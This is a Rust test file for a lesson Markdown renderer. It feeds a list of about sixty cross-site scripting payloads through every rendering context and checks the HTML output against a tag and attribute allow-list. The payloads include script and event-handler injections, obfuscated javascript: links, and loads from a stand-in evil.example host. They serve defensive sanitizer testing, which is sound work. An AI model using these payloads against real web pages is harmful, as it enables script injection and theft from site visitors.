//! Markdown from a stranger: whatever it tries, the HTML has no script, no handler, no foreign load.

use super::markdown::{Extent, Footnotes, From, Headings, Part, Piece, Shared, flow, inline, render};
use crate::source::Source;

/// Things that are tried. Each is rendered in every place where Markdown is, though most are refused.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>x</button></form>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<div\nonclick=alert(1)>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<a@b.example>",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
    "[x](https://a.example \"&quot; onmouseover=&quot;alert(1)\")",
    "[x](#\"onmouseover=\"alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](y)",
    "![![x](a)](b)",
    "## a\" onmouseover=\"alert(1)",
    "## <script>alert(1)</script>",
    "## x {#a onclick=alert(1)}",
    "```\"onmouseover=\"alert(1)\nx\n```",
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "```output\n</samp></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "| a\" onmouseover=\"alert(1) |\n|---|\n| <script>alert(1)</script> |",
    "[^\"onmouseover=\"alert(1)]\n\n[^\"onmouseover=\"alert(1)]: x",
    "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "> [!NOTE\" onclick=\"alert(1)]\n> x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
];

/// The tags that this crate writes, and for each the attributes that it may have.
const ALLOWED: &[(&str, &[&str])] = &[
    (
        "a",
        &["href", "title", "class", "target", "rel", "id", "aria-label"],
    ),
    ("aside", &["class", "role"]),
    ("blockquote", &[]),
    ("br", &[]),
    ("code", &["class"]),
    ("del", &[]),
    (
        "div",
        &["class", "data-language", "tabindex", "role", "aria-label"],
    ),
    ("em", &[]),
    ("h1", &["id"]),
    ("h2", &["id"]),
    ("h3", &["id"]),
    ("h4", &["id"]),
    ("h5", &["id"]),
    ("h6", &["id"]),
    ("hr", &[]),
    ("li", &["id"]),
    ("ol", &["start"]),
    ("p", &["class"]),
    ("pre", &["class", "tabindex", "role", "aria-label"]),
    ("samp", &[]),
    ("section", &["class", "aria-label"]),
    ("span", &["class", "role", "aria-label"]),
    ("strong", &[]),
    ("sup", &["class"]),
    ("table", &[]),
    ("tbody", &[]),
    ("td", &["class"]),
    ("th", &["scope", "class"]),
    ("thead", &[]),
    ("tr", &[]),
    ("ul", &[]),
];

fn shared() -> Shared<'static> {
    Shared {
        course: "docker",
        problems: Vec::new(),
        headings: Headings::default(),
        links: Vec::new(),
        footnotes: Footnotes::default(),
        figures: &NO_FIGURES,
        shown: Vec::new(),
        declared: &[],
    }
}

static NO_FIGURES: crate::figure::Figures = crate::figure::Figures::new();

/// The HTML of a text in every place where Markdown is rendered, problems or not.
fn html_everywhere(text: &str) -> String {
    let source = Source::new("x/lesson.md", text);
    let mut shared = shared();
    let piece = Piece {
        source: &source,
        text: source.text(),
        from: From::Offset(0),
        extent: Extent::Lesson,
    };
    let mut html: String = render(&piece, &mut shared)
        .into_iter()
        .filter_map(|part| match part {
            Part::Html(html) => Some(html),
            Part::Fence { .. } => None,
        })
        .collect();
    html.push_str(&shared.footnotes.finish().unwrap_or_default());
    html.push_str(&inline(&source, text, 0..1, &mut shared));
    html.push_str(&flow(&source, text, 0..1, &mut shared));
    html
}

/// Walks the HTML as a browser's tokenizer would, and refuses every tag, attribute and address that is not
/// on the list. It is strict: a `<` or a quote out of place fails too.
fn check(html: &str) -> Result<(), String> {
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let text = &rest[..start];
        if text.contains('>') || text.contains('"') {
            return Err(format!("unescaped text: {text}"));
        }
        let end = rest[start..].find('>').ok_or("a tag without an end")? + start;
        tag(&rest[start + 1..end])?;
        rest = &rest[end + 1..];
    }
    if rest.contains('>') || rest.contains('"') {
        Err(format!("unescaped text: {rest}"))
    } else {
        Ok(())
    }
}

fn tag(tag: &str) -> Result<(), String> {
    let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
    let known = ALLOWED
        .iter()
        .find(|(known, _)| *known == name.trim_start_matches('/'));
    let (_, allowed) = known.ok_or_else(|| format!("a tag that is not ours: <{tag}>"))?;
    while !attributes.is_empty() {
        let (key, rest) = attributes
            .split_once("=\"")
            .ok_or_else(|| format!("an attribute without quotes: <{tag}>"))?;
        let (value, rest) = rest
            .split_once('"')
            .ok_or_else(|| format!("a quote without an end: <{tag}>"))?;
        if !allowed.contains(&key) {
            return Err(format!("an attribute that is not ours: {key} in <{tag}>"));
        }
        if key == "href" {
            let safe = ["https://", "http://", "#", "/courses/"]
                .iter()
                .any(|prefix| value.starts_with(prefix));
            if !safe {
                return Err(format!("an address that is not safe: {value}"));
            }
        }
        attributes = rest.trim_start();
    }
    Ok(())
}

#[test]
fn nothing_hostile_gets_through() {
    for hostile in HOSTILE {
        for text in [
            (*hostile).to_owned(),
            format!("> {hostile}"),
            format!("- a\n\n  {hostile}"),
            format!("**{hostile}**"),
        ] {
            let html = html_everywhere(&text);
            if let Err(why) = check(&html) {
                panic!("{text:?}\n{why}\n{html}");
            }
        }
    }
}

#[test]
fn the_check_of_these_tests_is_not_blind() {
    for html in [
        "<script>x</script>",
        "<img src=\"x\">",
        "<a href=\"javascript:x\">x</a>",
        "<p onclick=\"x\">x</p>",
        "<p class=x>x</p>",
        "a > b",
    ] {
        assert!(check(html).is_err(), "{html}");
    }
    assert_eq!(check("<p class=\"a\">b &lt; <a href=\"#c\">d</a></p>"), Ok(()));
}

#[test]
fn tags_that_are_opened_are_closed() {
    for text in [
        "a *b* **c** ~~d~~ `e`",
        "- a\n  - b\n",
        "> [!TIP]\n> x\n",
        "|a|\n|-|\n|b|\n",
        "a[^1]\n\n[^1]: b\n",
        "[x](y) [z](#q)",
    ] {
        let html = html_everywhere(text);
        let mut open: Vec<&str> = Vec::new();
        for part in html.split('<').skip(1) {
            let name = part.split([' ', '>']).next().unwrap();
            match name.strip_prefix('/') {
                Some(name) => assert_eq!(open.pop(), Some(name), "{html}"),
                None if matches!(name, "br" | "hr") => {}
                None => open.push(name),
            }
        }
        assert!(open.is_empty(), "{open:?} in {html}");
    }
}

#[test]
fn an_empty_corner_of_a_table_is_no_header() {
    let html = html_everywhere("| | `one` | two |\n|:-:|---|---|\n| a | b | c |\n");
    assert!(
        html.contains("<thead><tr><td class=\"align-center\"></td><th scope=\"col\">"),
        "{html}"
    );
    assert!(html.contains("aria-label=\"Table: one, two\""), "{html}");
}
